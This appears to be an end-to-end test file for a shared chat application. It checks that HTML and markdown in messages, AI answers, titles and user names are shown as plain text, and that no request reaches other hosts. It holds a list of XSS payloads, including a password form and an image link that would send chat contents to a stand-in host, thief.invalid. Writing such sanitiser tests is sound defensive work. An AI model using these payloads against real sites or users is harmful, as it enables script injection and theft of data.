"""Words that want to be markup: in a message, an answer, a title and a name, before two people."""

from __future__ import annotations

import pytest
from playwright.sync_api import BrowserContext, Dialog, Page, Request, expect

from tests.e2e.whole.chat import answers, begin, open_chat, play, send, wait_for_words, wait_until_ended
from tests.e2e.whole.conftest import Enter
from tests.live.server import Server
from tests.live.stand_in import StandIn

pytestmark = pytest.mark.usefixtures("calm")

SCRIPT = "<script>globalThis.taken = 1; alert(1)</script>"
HANDLER = '"><img src=x onerror="globalThis.taken = 1; alert(1)">'
HOSTILE = [
    "Look: ",
    SCRIPT,
    HANDLER,
    "<svg onload='globalThis.taken = 1'></svg> ",
    "<iframe src='https://thief.invalid/frame'></iframe> ",
    "<form action='https://thief.invalid/'><input name=password></form> ",
    "<style>body { display: none }</style> ",
    "<a href='javascript:globalThis.taken = 1'>press</a> ",
    "[press this](javascript:globalThis.taken=1) ",
    "![a picture](https://thief.invalid/what-was-said.png) ",
    "![data](data:text/html;base64,PHNjcmlwdD4=) ",
    "<link rel=stylesheet href=https://thief.invalid/style.css> ",
    "$\\href{javascript:globalThis.taken=1}{x}$ ",
    "\n\n```html\n" + SCRIPT + "\n```\n\n",
    "The end of it.",
]


@pytest.fixture
def taken() -> list[str]:
    """What got out: dialogs, and requests to other hosts."""
    return []


def guard(context: BrowserContext, server: Server, taken: list[str]) -> None:
    def hear_dialog(dialog: Dialog) -> None:
        taken.append(f"a dialog: {dialog.message}")
        dialog.dismiss()

    def hear_request(request: Request) -> None:
        if not request.url.startswith((*server.urls, "data:", "blob:")):
            taken.append(request.url)

    context.on("dialog", hear_dialog)
    context.on("request", hear_request)


def assert_nothing_ran(page: Page, taken: list[str]) -> None:
    assert taken == []
    assert page.evaluate("globalThis.taken") is None


def test_hostile_words_stay_words_for_everybody(
    salon: Server, provider: StandIn, enter: Enter, taken: list[str], console_allows: list[str]
) -> None:
    # The sanitiser parses into a document that runs nothing; Chromium notes even there that our policy forbids it
    console_allows.extend(("Executing inline event handler", "Applying inline style"))
    message = "Say it back. " + "".join(HOSTILE[1:])
    play(provider, message.strip(), HOSTILE, pause=0.02)
    alice, bob = enter(salon, "Alice"), enter(salon, "Bob", door=-1)
    for page in (alice, bob):
        guard(page.context, salon, taken)
    path = begin(alice)
    salon.inside("invite", conversation=path.strip("/").split("/")[-1], name="Bob", role="editor")
    open_chat(bob, path)
    send(alice, message)

    for page in (alice, bob, open_chat(alice.context.new_page(), path)):
        wait_for_words(page, "The end of it.")
        wait_until_ended(page)
        log = page.get_by_role("log")
        expect(log.locator("img, script, iframe, svg[onload], style, link, form, input, [onerror]")).to_have_count(0)
        expect(log.locator("a[href^='javascript:' i]")).to_have_count(0)
        picture = answers(page).get_by_role("link", name="a picture")
        expect(picture).to_have_attribute("href", "https://thief.invalid/what-was-said.png")
        expect(picture).to_have_attribute("rel", "noopener noreferrer nofollow")
        expect(answers(page).locator("pre")).to_contain_text(SCRIPT)
        answers(page).get_by_text("press", exact=True).click()
        answers(page).get_by_text("press this").click()
        assert_nothing_ran(page, taken)


def test_a_hostile_title_and_name_stay_words_everywhere(
    salon: Server, provider: StandIn, enter: Enter, taken: list[str]
) -> None:
    play(provider, "Hello", ["Good ", "day."])
    alice, bob = enter(salon, "Alice"), enter(salon, "Bob", door=-1)
    for page in (alice, bob):
        guard(page.context, salon, taken)
    name = f"Bob {HANDLER}"[:80]
    bob.goto("/settings/")
    bob.get_by_role("textbox", name="Name").fill(name)
    bob.locator("#profile").get_by_role("button", name="Save").click()
    expect(bob.get_by_role("textbox", name="Name")).to_have_value(name)

    path = begin(alice)
    salon.inside("invite", conversation=path.strip("/").split("/")[-1], name=name, role="editor")
    open_chat(bob, path)
    alice.get_by_role("button", name="More").click()
    alice.get_by_role("button", name="Rename").click()
    alice.get_by_role("textbox", name="Title").fill(SCRIPT + HANDLER)
    alice.get_by_role("button", name="Save").click()
    send(bob, "Hello")

    for page in (alice, bob):
        wait_for_words(page, "Good day.")
        wait_until_ended(page)
        expect(page.get_by_role("heading", level=1)).to_have_text(SCRIPT + HANDLER)
        expect(page.get_by_role("article", name=f"Message from {name}")).to_be_visible()
        assert_nothing_ran(page, taken)
        page.goto("/")
        expect(page.locator(".conversations").get_by_text(SCRIPT + HANDLER).first).to_be_visible()
        assert_nothing_ran(page, taken)
    bob.goto("/settings/")
    bob.get_by_role("textbox", name="Name").fill("Bob")
    bob.locator("#profile").get_by_role("button", name="Save").click()
